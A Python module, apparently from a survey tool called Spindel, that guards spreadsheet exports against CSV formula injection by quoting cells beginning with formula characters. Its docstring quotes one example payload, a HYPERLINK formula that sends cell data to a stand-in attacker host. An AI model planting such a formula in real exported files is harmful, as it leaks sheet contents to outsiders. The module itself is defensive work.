"""What a spreadsheet cell may hold: the one rule for every table Spindel writes — the
results CSV and workbook, the raw answers, the deck's chart workbooks and the personal-links
CSV.

Names come from people and imports, and a spreadsheet evaluates a text cell that starts with
=, +, -, @, tab or carriage return: `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`
becomes a link that sends the sheet away. Such a text is written with a single quote in
front (OWASP's advice against CSV injection), which every spreadsheet shows as text and none
evaluates, in a CSV opened by Excel as in a workbook saved back as CSV. Numbers stay numbers.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")
# Control characters an .xlsx (XML) cannot hold: openpyxl refuses them. Names are checked
# for them where typed (names.py); this keeps an older name from breaking an export.
_UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def inert(value):
    """A cell's value as written: a text that a spreadsheet would evaluate gets a leading
    single quote, and control characters a workbook cannot hold become U+FFFD; numbers,
    dates, None and other texts come back unchanged."""
    if not isinstance(value, str):
        return value
    value = _UNWRITABLE.sub("\ufffd", value)
    return "'" + value if value.startswith(FORMULA_STARTERS) else value


def inert_row(values: Iterable) -> list:
    """inert() of each value of a row."""
    return [inert(value) for value in values]


def append_inert(sheet, values: Iterable) -> None:
    """Append a row to an openpyxl sheet through inert(), each text cell typed as text:
    openpyxl on its own stores a text starting with "=" as a formula."""
    row = inert_row(values)
    sheet.append(row)
    for column, value in enumerate(row, start=1):
        if isinstance(value, str):
            sheet.cell(row=sheet.max_row, column=column).data_type = "s"
